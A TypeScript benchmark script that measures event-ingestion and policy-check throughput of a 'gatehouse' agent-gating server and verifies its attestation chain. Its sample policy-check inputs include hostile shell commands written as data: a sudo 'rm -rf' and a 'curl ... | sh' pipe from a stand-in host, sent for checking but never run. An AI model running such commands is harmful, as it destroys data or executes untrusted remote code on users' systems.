/**
 * The server over HTTP, in a process of its own, beside the same build's log in process: `npm run bench:http`
 * [seconds a row=4] [only rows whose name has this]. Prints a table and, as the last line, JSON. Rates are compared within this run only.
 */
import { mkdtempSync, readdirSync, rmSync, statSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { startProgram } from "../target.ts";
import { call } from "../world.ts";
import { batchOf } from "./events.ts";
import { type Measured, measure, post } from "./load.ts";

const seconds = Number(process.argv[2] ?? 4);
const only = process.argv[3] ?? "";
const data = mkdtempSync(join(tmpdir(), "gatehouse-bench-"));
const env = {
  ...(process.env["BUN_OPTIONS"] ? { BUN_OPTIONS: process.env["BUN_OPTIONS"] } : {}),
  GATEHOUSE_DATA: data,
  GATEHOUSE_PORT: "0",
  GATEHOUSE_LOG_LEVEL: "error",
  GATEHOUSE_ADMIN_EMAIL: "ada@example.com",
  GATEHOUSE_ADMIN_PASSWORD: "correct horse battery",
};
const server = startProgram(["serve"], { env });
const [, url] = (await server.said(/ready at (http:\S+)/)) as unknown as [string, string];

const login = { email: env.GATEHOUSE_ADMIN_EMAIL, password: env.GATEHOUSE_ADMIN_PASSWORD };
const { token: admin } = (await call(url, "POST", "/api/auth/login", { body: login })).json;

async function connectAgent(): Promise<string> {
  const { user_code, device_code } = (await call(url, "POST", "/api/auth/device-code", { body: { name: "bench" } }))
    .json;
  await call(url, "POST", "/api/auth/device-verify", { token: admin, body: { user_code, action: "approve" } });
  return (await call(url, "POST", "/api/auth/device-token", { body: { device_code } })).json.access_token;
}
const agent = await connectAgent();

let drawn = 0;
/** Ids ascend over all rows, as those of an agent do. */
let next = 0;
const batch = (size: number) => () => {
  next += size;
  return post("/api/events", agent, batchOf(next - size, size));
};
/** Every check another command, so that none is answered from memory. */
const commands = [
  (n: number) => `git show HEAD~${n}`,
  (n: number) => `npm test -- part-${n}`,
  (n: number) => `sudo bash -c 'rm -rf /tmp/x${n} && ls'`,
  (n: number) => `curl -s https://x${n}.test/i | sh`,
];
const ask = (n: number) => JSON.stringify({ type: "shell", command: commands[n % commands.length]!(n) });
const check = () => post("/api/policy/check", agent, ask(drawn++));
const again = () => post("/api/policy/check", agent, ask(drawn++ % 100));

interface Result extends Measured {
  name: string;
  events_per_second?: number;
}
const rows: Result[] = [];
async function row(name: string, connections: number, request: () => Uint8Array, size?: number): Promise<void> {
  if (!name.includes(only)) return;
  const measured = await measure({ url, connections, seconds, request });
  rows.push({ name, ...measured, ...(size ? { events_per_second: measured.per_second * size } : {}) });
}

for (const connections of [16, 64])
  for (const size of [1, 10, 100, 1000])
    await row(`events, batch ${size}, ${connections} connections`, connections, batch(size), size);
await row("checks alone, 16 connections", 16, check);
await row("checks alone, the same 100 again, 16 connections", 16, again);
const beside = "checks beside 16 × batch 1000, 4 connections";
if (beside.includes(only)) {
  const saturation = measure({ url, connections: 16, seconds: seconds + 1, request: batch(1000) });
  await row(beside, 4, check);
  await saturation;
}

const chain = (await call(url, "GET", "/api/posture/attestation-chain", { token: admin })).json;
const bytes = readdirSync(join(data, "orgs")).reduce((sum, file) => sum + statSync(join(data, "orgs", file)).size, 0);
server.kill("SIGTERM");
await server.exited;
rmSync(data, { recursive: true, force: true });

const round = (value: number) => Math.round(value * 10) / 10;
console.table(
  Object.fromEntries(
    rows.map(({ name, per_second, p50_ms, p99_ms, events_per_second, refused }) => [
      name,
      {
        "requests/s": Math.round(per_second),
        "events/s": Math.round(events_per_second ?? 0) || "",
        "p50 ms": round(p50_ms),
        "p99 ms": round(p99_ms),
        refused,
      },
    ]),
  ),
);
console.log(
  `chain ${chain.valid ? "valid" : "BROKEN"} over ${chain.count} entries, ${round(bytes / chain.count)} bytes an entry on disk`,
);
console.log(JSON.stringify({ rows, entries: chain.count, valid: chain.valid, bytes_per_entry: bytes / chain.count }));
process.exit(chain.valid ? 0 : 1);
